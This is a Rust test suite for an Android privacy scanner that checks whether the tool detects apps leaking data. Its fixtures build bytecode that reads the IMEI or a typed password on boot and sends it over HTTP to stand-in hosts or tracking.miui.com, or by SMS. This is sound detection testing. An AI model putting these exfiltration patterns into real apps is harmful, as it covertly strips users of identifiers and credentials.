//! What an app reads and where it goes: from a package to the finding.

use std::io::{Cursor, Write};
use std::path::Path;

use dex::{Asm, DexBuilder};
use phonehome::detect::{Confidence, Finding, Rung};
use phonehome::fact::StepKind;
use phonehome::report::Report;
use phonehome::rule::Rules;
use phonehome::scan::{Options, scan};
use res::XmlBuilder;

use crate::build::{dex, res};

const RECEIVER: &str = "Landroid/content/BroadcastReceiver;";
const CONTEXT: &str = "Landroid/content/Context;";
const TELEPHONY: &str = "Landroid/telephony/TelephonyManager;";
const BUILDER: &str = "Ljava/lang/StringBuilder;";
const DIGEST: &str = "Ljava/security/MessageDigest;";
const SMS: &str = "Landroid/telephony/SmsManager;";
const TEXT: &str = "(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;\
    Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V";
const URL: &str = "Ljava/net/URL;";

fn report(path: &Path) -> Report {
    scan(
        path,
        &Options {
            flows: true,
            ..Options::default()
        },
        &Rules::bundled().unwrap(),
        &|_| (),
    )
    .unwrap()
}

/// An app with a receiver for the end of booting, which does this. Registers: 0 to 5 are free, 7 is the context.
fn package(started: bool, layout: Option<Vec<u8>>, on_receive: impl FnOnce(&mut Asm)) -> Vec<u8> {
    let mut dex = DexBuilder::new();
    dex.class("Lcom/acme/x/R;").superclass(RECEIVER).virtual_method(
        "onReceive",
        "(Landroid/content/Context;Landroid/content/Intent;)V",
        9,
        |m| {
            on_receive(m);
            m.return_void();
        },
    );
    let mut manifest = XmlBuilder::new()
        .open("manifest", &[("package", "com.acme.x".into())])
        .empty(
            "uses-permission",
            &[("android:name", "android.permission.INTERNET".into())],
        )
        .open("application", &[]);
    if started {
        manifest = manifest
            .open("receiver", &[("android:name", ".R".into())])
            .open("intent-filter", &[])
            .empty(
                "action",
                &[("android:name", "android.intent.action.BOOT_COMPLETED".into())],
            )
            .close()
            .close();
    }
    let mut files = vec![
        ("AndroidManifest.xml", manifest.build()),
        ("classes.dex", dex.build()),
    ];
    files.extend(layout.map(|layout| ("res/layout/a.xml", layout)));
    zipped(&files)
}

fn zipped(files: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in files {
        zip.start_file(*name, zip::write::SimpleFileOptions::default())
            .unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// What is found in such an app.
fn app(started: bool, on_receive: impl FnOnce(&mut Asm)) -> Report {
    packed(started, None, on_receive)
}

/// As [`app`], with a layout.
fn packed(started: bool, layout: Option<Vec<u8>>, on_receive: impl FnOnce(&mut Asm)) -> Report {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("x.apk");
    std::fs::write(&path, package(started, layout, on_receive)).unwrap();
    report(&path)
}

/// What is found in a build of such an app and of a jar of the framework that it loads.
fn build(jar: &mut DexBuilder, on_receive: impl FnOnce(&mut Asm)) -> Report {
    let rom = zipped(&[
        ("META-INF/com/google/android/updater-script", Vec::new()),
        ("system/app/X.apk", package(true, None, on_receive)),
        (
            "system/framework/acme.jar",
            zipped(&[("classes.dex", jar.build())]),
        ),
    ]);
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("rom.zip");
    std::fs::write(&path, rom).unwrap();
    report(&path)
}

/// Reads the IMEI into register 0.
fn imei(m: &mut Asm) -> &mut Asm {
    m.const_string(0, "phone")
        .invoke_virtual(
            CONTEXT,
            "getSystemService",
            "(Ljava/lang/String;)Ljava/lang/Object;",
            &[7, 0],
        )
        .move_result_object(0)
        .check_cast(0, TELEPHONY)
        .invoke_virtual(TELEPHONY, "getDeviceId", "()Ljava/lang/String;", &[0])
        .move_result_object(0)
}

/// Makes register 1 a digest, and register 2 the bytes of register 0.
fn hasher<'m>(m: &'m mut Asm, algorithm: &str) -> &'m mut Asm {
    m.const_string(1, algorithm)
        .invoke_static(
            DIGEST,
            "getInstance",
            "(Ljava/lang/String;)Ljava/security/MessageDigest;",
            &[1],
        )
        .move_result_object(1)
        .invoke_virtual("Ljava/lang/String;", "getBytes", "()[B", &[0])
        .move_result_object(2)
}

/// Opens a connection to an address and what is in this register.
fn send(m: &mut Asm, address: &str, register: u8) {
    m.new_instance(1, BUILDER)
        .const_string(2, address)
        .invoke_direct(BUILDER, "<init>", "(Ljava/lang/String;)V", &[1, 2])
        .invoke_virtual(
            BUILDER,
            "append",
            "(Ljava/lang/String;)Ljava/lang/StringBuilder;",
            &[1, register],
        )
        .invoke_virtual(BUILDER, "toString", "()Ljava/lang/String;", &[1])
        .move_result_object(1)
        .new_instance(2, URL)
        .invoke_direct(URL, "<init>", "(Ljava/lang/String;)V", &[2, 1])
        .invoke_virtual(URL, "openConnection", "()Ljava/net/URLConnection;", &[2])
        .move_result_object(2)
        .invoke_virtual("Ljava/net/URLConnection;", "connect", "()V", &[2]);
}

fn flows(report: &Report) -> Vec<&Finding> {
    let flows = report.findings.iter().filter(|f| f.rule.starts_with("flow."));
    flows.collect()
}

fn titles(report: &Report) -> Vec<&str> {
    flows(report).iter().map(|f| f.title.as_str()).collect()
}

#[test]
fn what_is_read_and_sent_is_one_finding_with_its_way() {
    let report = app(true, |m| send(imei(m), "https://in.example-metrics.io/v1?d=", 0));
    assert_eq!(titles(&report), ["sends the IMEI to in.example-metrics.io"]);
    let flow = flows(&report)[0];
    assert_eq!(
        (flow.rung, flow.confidence),
        (Rung::FlowWithEndpoint, Confidence::High)
    );
    assert_eq!(flow.details["urls"], ["https://in.example-metrics.io/v1?d={}"]);
    assert_eq!(
        flow.details["started by"],
        ["receiver com.acme.x.R (android.intent.action.BOOT_COMPLETED)"]
    );
    // One connection, though several calls make it.
    assert!(flow.count >= 2, "{}", flow.count);
    let first = flow.way.first().unwrap();
    assert_eq!(first.what, StepKind::Read);
    assert!(first.site.lines[0].contains("getDeviceId"), "{first:?}");
    assert_eq!(flow.way.last().unwrap().what, StepKind::Leaves);
    let covered = |rule: &str| {
        let finding = report.findings.iter().find(|f| f.rule.starts_with(rule)).unwrap();
        finding.related.contains(&flow.id) && flow.related.contains(&finding.id)
    };
    assert!(covered("endpoint.unknown-owner") && covered("identifier."));
}

#[test]
fn what_is_sent_beside_what_is_read_is_no_flow() {
    let report = app(true, |m| {
        imei(m).move_object(5, 0).const_string(0, "hello");
        send(m, "https://in.example-metrics.io/v1?d=", 0);
    });
    assert_eq!(titles(&report), [""; 0]);
    let has = |rule: &str| report.findings.iter().any(|f| f.rule.starts_with(rule));
    assert!(has("endpoint.unknown-owner") && has("identifier."));
    assert!(report.findings.iter().all(|f| f.related.is_empty()));
}

#[test]
fn what_nothing_starts_is_not_said_to_send() {
    let report = app(false, |m| send(imei(m), "https://in.example-metrics.io/v1?d=", 0));
    assert_eq!(titles(&report), [""; 0]);
}

#[test]
fn a_hash_on_the_way_is_told() {
    let report = app(true, |m| {
        hasher(imei(m), "SHA-1")
            .invoke_virtual(DIGEST, "digest", "([B)[B", &[1, 2])
            .move_result_object(2)
            .new_instance(0, "Ljava/lang/String;")
            .invoke_direct("Ljava/lang/String;", "<init>", "([B)V", &[0, 2]);
        send(m, "http://tracking.miui.com/x?d=", 0);
    });
    assert_eq!(
        titles(&report),
        ["sends the IMEI (hashed) to tracking.miui.com in clear text"]
    );
    assert_eq!(flows(&report)[0].owner.as_deref(), Some("Xiaomi"));
}

#[test]
fn a_try_that_ends_between_a_call_and_its_result_loses_nothing() {
    let report = app(true, |m| {
        m.const_string(0, "phone")
            .invoke_virtual(
                CONTEXT,
                "getSystemService",
                "(Ljava/lang/String;)Ljava/lang/Object;",
                &[7, 0],
            )
            .move_result_object(0)
            .label("tried")
            .invoke_virtual(TELEPHONY, "getDeviceId", "()Ljava/lang/String;", &[0])
            .label("end")
            .move_result_object(0);
        send(m, "https://in.example-metrics.io/v1?d=", 0);
        m.goto("done")
            .label("caught")
            .move_exception(1)
            .label("done")
            .try_("tried", "end", &[(None, "caught")]);
    });
    assert_eq!(titles(&report), ["sends the IMEI to in.example-metrics.io"]);
}

#[test]
fn a_hash_that_is_written_out_is_followed_too() {
    let number = "Ljava/math/BigInteger;";
    let report = app(true, |m| {
        hasher(imei(m), "MD5")
            .invoke_virtual(DIGEST, "update", "([B)V", &[1, 2])
            .new_instance(2, number)
            .const_int(3, 1)
            .invoke_virtual(DIGEST, "digest", "()[B", &[1])
            .move_result_object(1)
            .invoke_direct(number, "<init>", "(I[B)V", &[2, 3, 1])
            .const_string(1, "%1$032X")
            .new_array(3, 3, "[Ljava/lang/Object;")
            .const_int(4, 0)
            .aput_object(2, 3, 4)
            .invoke_static(
                "Ljava/lang/String;",
                "format",
                "(Ljava/lang/String;[Ljava/lang/Object;)Ljava/lang/String;",
                &[1, 3],
            )
            .move_result_object(0)
            .invoke_virtual("Ljava/lang/String;", "toLowerCase", "()Ljava/lang/String;", &[0])
            .move_result_object(0);
        send(m, "http://tracking.miui.com/x?d=", 0);
    });
    assert_eq!(
        titles(&report),
        ["sends the IMEI (hashed) to tracking.miui.com in clear text"]
    );
}

#[test]
fn a_text_message_needs_no_server() {
    let report = app(true, |m| {
        imei(m)
            .move_object(4, 0)
            .invoke_static(SMS, "getDefault", "()Landroid/telephony/SmsManager;", &[])
            .move_result_object(1)
            .const_string(2, "10086")
            .const_int(3, 0)
            .const_int(5, 0)
            .const_int(6, 0)
            .invoke_virtual(SMS, "sendTextMessage", TEXT, &[1, 2, 3, 4, 5, 6]);
    });
    assert_eq!(titles(&report), ["sends the IMEI in a text message"]);
    let flow = flows(&report)[0];
    assert_eq!((flow.rule.as_str(), flow.rung), ("flow.message", Rung::Flow));
}

/// A jar with a base address in a static field, and a method that sends its second parameter to its first.
fn jar() -> DexBuilder {
    let mut jar = DexBuilder::new();
    jar.class("Lacme/net/Hosts;")
        .static_field("BASE", "Ljava/lang/String;", None)
        .clinit(2, |m| {
            m.const_string(0, "http://in.example-metrics.io")
                .sput(0, "Lacme/net/Hosts;", "BASE", "Ljava/lang/String;")
                .return_void();
        });
    jar.class("Lacme/net/Request;")
        .method("send", "(Ljava/lang/String;Ljava/lang/String;)V", 8, |m| {
            m.new_instance(1, BUILDER)
                .invoke_direct(BUILDER, "<init>", "(Ljava/lang/String;)V", &[1, 6])
                .invoke_virtual(
                    BUILDER,
                    "append",
                    "(Ljava/lang/String;)Ljava/lang/StringBuilder;",
                    &[1, 7],
                )
                .invoke_virtual(BUILDER, "toString", "()Ljava/lang/String;", &[1])
                .move_result_object(1)
                .new_instance(2, URL)
                .invoke_direct(URL, "<init>", "(Ljava/lang/String;)V", &[2, 1])
                .invoke_virtual(URL, "openConnection", "()Ljava/net/URLConnection;", &[2])
                .move_result_object(2)
                .invoke_virtual("Ljava/net/URLConnection;", "connect", "()V", &[2])
                .return_void();
        });
    jar
}

#[test]
fn what_a_jar_of_the_framework_does_for_an_app_is_followed() {
    let report = build(&mut jar(), |m| {
        imei(m)
            .sget(1, "Lacme/net/Hosts;", "BASE", "Ljava/lang/String;")
            .invoke_static(
                "Lacme/net/Request;",
                "send",
                "(Ljava/lang/String;Ljava/lang/String;)V",
                &[1, 0],
            );
    });
    assert_eq!(
        titles(&report),
        ["sends the IMEI to in.example-metrics.io in clear text"]
    );
    let last = flows(&report)[0].way.last().unwrap().clone();
    assert!(
        last.site.lines[0].contains("Lacme/net/Request;->send"),
        "{last:?}"
    );
}

#[test]
fn what_an_app_asks_a_jar_for_and_what_it_reads_do_not_meet_by_themselves() {
    let report = build(&mut jar(), |m| {
        imei(m)
            .sget(1, "Lacme/net/Hosts;", "BASE", "Ljava/lang/String;")
            .const_string(2, "hello")
            .invoke_static(
                "Lacme/net/Request;",
                "send",
                "(Ljava/lang/String;Ljava/lang/String;)V",
                &[1, 2],
            );
    });
    assert_eq!(titles(&report), [""; 0]);
}

#[test]
fn a_map_of_a_makers_own_holds_what_is_put_into_it_by_another_name() {
    let map = "Lacme/util/EasyMap;";
    let put = "(Ljava/lang/Object;Ljava/lang/Object;)Lacme/util/EasyMap;";
    let report = |kept: u8| {
        let mut jar = jar();
        jar.class(map)
            .superclass("Ljava/util/HashMap;")
            .virtual_method("easyPut", put, 3, |m| {
                m.invoke_virtual(
                    map,
                    "put",
                    "(Ljava/lang/Object;Ljava/lang/Object;)Ljava/lang/Object;",
                    &[0, 1, 2],
                )
                .return_object(0);
            });
        build(&mut jar, |m| {
            imei(m)
                .move_object(5, 0)
                .const_string(4, "hello")
                .new_instance(1, map)
                .invoke_direct(map, "<init>", "()V", &[1])
                .const_string(2, "k")
                // What the call gives back is not used: the map itself is filled.
                .invoke_virtual(map, "easyPut", put, &[1, 2, kept])
                .invoke_virtual(map, "toString", "()Ljava/lang/String;", &[1])
                .move_result_object(0);
            send(m, "https://in.example-metrics.io/v1?d=", 0);
        })
    };
    assert_eq!(titles(&report(5)), ["sends the IMEI to in.example-metrics.io"]);
    assert_eq!(titles(&report(4)), [""; 0]);
}

/// Puts register 0 into the preferences, under a key, and commits.
fn keep(m: &mut Asm, key: &str) {
    let editor = "Landroid/content/SharedPreferences$Editor;";
    m.const_string(1, "name")
        .const_int(2, 0)
        .invoke_virtual(
            CONTEXT,
            "getSharedPreferences",
            "(Ljava/lang/String;I)Landroid/content/SharedPreferences;",
            &[7, 1, 2],
        )
        .move_result_object(1)
        .invoke_interface(
            "Landroid/content/SharedPreferences;",
            "edit",
            "()Landroid/content/SharedPreferences$Editor;",
            &[1],
        )
        .move_result_object(2)
        .const_string(3, key)
        .invoke_interface(
            editor,
            "putString",
            "(Ljava/lang/String;Ljava/lang/String;)Landroid/content/SharedPreferences$Editor;",
            &[2, 3, 0],
        )
        .invoke_interface(editor, "commit", "()Z", &[2]);
}

#[test]
fn what_is_kept_comes_back_by_its_key_alone() {
    let sent = |asked: &str| {
        let report = app(true, |m| {
            imei(m);
            keep(m, "id");
            m.const_string(3, asked)
                .const_string(4, "")
                .invoke_interface(
                    "Landroid/content/SharedPreferences;",
                    "getString",
                    "(Ljava/lang/String;Ljava/lang/String;)Ljava/lang/String;",
                    &[1, 3, 4],
                )
                .move_result_object(0);
            send(m, "https://in.example-metrics.io/v1?d=", 0);
        });
        flows(&report).len()
    };
    assert_eq!((sent("id"), sent("nonce")), (1, 0));
}

#[test]
fn what_a_context_is_asked_for_is_not_made_of_what_the_app_keeps() {
    let report = app(true, |m| {
        imei(m);
        keep(m, "id");
        m.invoke_virtual(CONTEXT, "getPackageName", "()Ljava/lang/String;", &[7])
            .move_result_object(0);
        send(m, "https://in.example-metrics.io/v1?d=", 0);
    });
    assert_eq!(titles(&report), [""; 0]);
}

#[test]
fn the_sample_sends_the_imei_from_boot_on() {
    let report = report(&Path::new(env!("CARGO_MANIFEST_DIR")).join("samples/acme-1.0.zip"));
    let flow = flows(&report)[0];
    assert_eq!(
        flow.title,
        "sends the IMEI to stats.acme.example.com in clear text"
    );
    assert_eq!(flow.app, "AcmeStats");
    let happens: Vec<StepKind> = flow.way.iter().map(|step| step.what).collect();
    assert_eq!(happens[0], StepKind::Read);
    assert!(happens.contains(&StepKind::Mixed) && happens.ends_with(&[StepKind::Leaves]));
    let app = report.apps.iter().find(|app| app.name == "AcmeStats").unwrap();
    let chain = app
        .chains
        .iter()
        .find(|chain| chain.identifier == "imei")
        .unwrap();
    assert!(
        chain
            .score
            .factors
            .iter()
            .any(|f| f.name == "evidence: flows to a known server")
    );
}

#[test]
fn a_password_that_is_typed_and_sent_is_told() {
    let layout = |kind: u32| {
        XmlBuilder::new()
            .open("LinearLayout", &[])
            .empty(
                "EditText",
                &[
                    ("android:id", res::Val::Ref(0x7f02_0001)),
                    ("android:inputType", res::Val::Int(kind)),
                ],
            )
            .close()
            .build()
    };
    let report = |kind: u32| {
        packed(true, Some(layout(kind)), |m| {
            let view = "Landroid/widget/EditText;";
            m.const_int(0, 0x7f02_0001)
                .invoke_virtual(
                    "Landroid/app/Dialog;",
                    "findViewById",
                    "(I)Landroid/view/View;",
                    &[3, 0],
                )
                .move_result_object(0)
                .check_cast(0, view)
                .invoke_virtual(view, "getText", "()Landroid/text/Editable;", &[0])
                .move_result_object(0)
                .invoke_virtual("Ljava/lang/Object;", "toString", "()Ljava/lang/String;", &[0])
                .move_result_object(0);
            send(m, "http://tracking.miui.com/x?p=", 0);
        })
    };
    // TYPE_CLASS_TEXT, with and without TYPE_TEXT_VARIATION_PASSWORD
    assert_eq!(
        titles(&report(0x81)),
        ["sends the password that is typed to tracking.miui.com in clear text"]
    );
    assert_eq!(titles(&report(0x01)), Vec::<&str>::new());
}
